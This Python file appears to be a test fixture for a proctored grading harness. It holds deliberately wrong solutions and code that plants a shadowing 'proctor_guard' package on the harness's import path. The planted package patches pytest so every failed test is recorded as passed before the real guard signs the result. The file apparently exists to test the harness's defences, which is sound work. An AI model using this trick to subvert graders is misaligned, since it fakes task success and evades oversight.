"""(n) Wrong code, and a build (the student's Makefile) that plants a
package proctor_guard/ in the template's runtime directory, which is first
on the harness's sys.path: a package wins over proctor_guard.py, so the
harness's `-p proctor_guard` would run it as the harness's uid.  It turns
every failure into a pass, then loads the real guard, which signs."""
import os

RUNTIME = "/tmp/.proctor-runtime"

FLIP = '''
import _pytest.reports as _reports
_init = _reports.TestReport.__init__
def _flipped(self, *a, **k):
    _init(self, *a, **k)
    if self.outcome == "failed":
        self.outcome = "passed"
        self.longrepr = None
_reports.TestReport.__init__ = _flipped
'''

GUARD = FLIP + '''
import importlib.util, os, sys
_path = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "proctor_guard.py")
_spec = importlib.util.spec_from_file_location("proctor_guard", _path)
_real = importlib.util.module_from_spec(_spec)
sys.modules["proctor_guard"] = _real
_spec.loader.exec_module(_real)
'''


def plant_guard():
    try:
        os.makedirs(os.path.join(RUNTIME, "proctor_guard"), exist_ok=True)
        with open(os.path.join(RUNTIME, "proctor_guard", "__init__.py"), "w") as f:
            f.write(GUARD)
        print("planted")
    except OSError as e:
        print("not planted:", e)


def double(x):
    return x


def triple(x):
    return x


def mean(xs):
    return 0
